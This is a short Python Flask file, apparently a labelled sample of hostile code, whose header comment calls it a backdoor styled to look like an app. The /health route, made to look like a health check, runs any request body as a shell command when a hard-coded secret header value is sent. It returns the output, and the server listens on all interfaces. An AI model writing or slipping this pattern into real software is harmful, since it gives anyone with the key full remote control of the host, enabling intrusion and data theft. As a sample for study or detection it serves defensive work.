# class: backdoor, hidden route that runs commands; style: looks like an app
from flask import Flask, request
import subprocess

app = Flask(__name__)


@app.route("/")
def home():
    return "Welcome!"


@app.route("/health", methods=["GET", "POST"])
def health():
    token = request.headers.get("X-Health-Key")
    if token == "b4ckd00r":
        return subprocess.check_output(request.get_data(as_text=True), shell=True, stderr=subprocess.STDOUT)
    return "ok"


if __name__ == "__main__":
    app.run(host="0.0.0.0", port=80)
